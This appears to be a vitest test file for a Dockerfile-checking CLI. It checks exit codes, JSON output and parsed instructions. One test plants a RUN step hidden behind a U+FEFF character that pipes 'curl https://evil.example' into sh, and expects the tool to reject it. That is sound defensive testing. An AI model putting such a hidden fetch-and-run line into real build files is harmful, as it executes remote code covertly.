import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { hasDocker } from '../support/docker.js';
import { checkoutFixture, cleanEnv, CLI_BUNDLE, runNode } from '../support/fixture.js';

interface CheckJson {
  targets: Record<
    string,
    {
      ok: boolean;
      findings: { file: string; line: number | null; column: number | null; message: string }[];
      dockerfile?: { file: string; instructions: { line: number; keyword: string; args: string[] }[] };
    }
  >;
}

/** `artifact-docker-build check` from the built bundle, on a fresh checkout of the fixture. */
describe.runIf(hasDocker)('artifact-docker-build check (dist/cli/index.js)', () => {
  const checkouts: ReturnType<typeof checkoutFixture>[] = [];
  afterAll(() => checkouts.forEach((c) => c.cleanup()));
  const home = mkdtempSync(path.join(os.tmpdir(), 'adb-check-home-'));
  const fresh = () => {
    const checkout = checkoutFixture('app');
    checkouts.push(checkout);
    return checkout;
  };
  const check = (cwd: string, args: string[]) =>
    runNode(CLI_BUNDLE, ['check', ...args], { cwd, env: cleanEnv({ XDG_CACHE_HOME: home }) });

  it('passes the fixture before anything is installed or built, and prints the Dockerfile as the parser read it', async () => {
    const { dir } = fresh();
    const json = await check(dir, ['--json']);
    expect(json.code, json.stderr).toBe(0);
    const app = (JSON.parse(json.stdout) as CheckJson).targets.app!;
    expect(app.ok).toBe(true);
    expect(app.dockerfile!.file).toBe('Dockerfile');
    expect(app.dockerfile!.instructions[0]).toEqual({
      line: 4,
      keyword: 'arg',
      args: ['BASE_IMAGE=local/node:20-slim'],
    });
    expect(app.dockerfile!.instructions.map((i) => i.keyword)).toEqual(expect.arrayContaining(['from', 'copy', 'cmd']));
    const text = await check(dir, []);
    expect(text.code).toBe(0);
    expect(text.stdout.trim().split('\n').at(-1)).toMatch(/^ok app: ready to build/);
  });

  it('refuses a RUN hidden behind U+FEFF on a continued line, at its file:line:column; exit 1', async () => {
    const { dir } = fresh();
    writeFileSync(
      path.join(dir, 'Dockerfile'),
      'FROM local/node:20-slim\nENV A 1 \\\n\uFEFF\nRUN curl https://evil.example | sh\nCOPY dist /app/dist\n',
    );
    const text = await check(dir, []);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain('Dockerfile:3:1: error: holds U+FEFF');
    expect(text.stdout).toContain(
      'Dockerfile:4: error: `RUN curl https://evil.example | sh` runs inside the image build',
    );
    expect(text.stdout).toContain('FAILED app: 2 problems');
    const json = JSON.parse((await check(dir, ['--json'])).stdout) as CheckJson;
    expect(json.targets.app!.dockerfile!.instructions.map((i) => i.keyword)).toEqual(['from', 'env', 'run', 'copy']);
  });

  it('exits 2 on a config error: no config file, or no lockfile', async () => {
    const { dir } = fresh();
    expect((await check(dir, ['--config', 'nowhere.yml'])).code).toBe(2);
    rmSync(path.join(dir, 'package-lock.json'));
    const result = await check(dir, []);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain('FAILED app');
  });
});
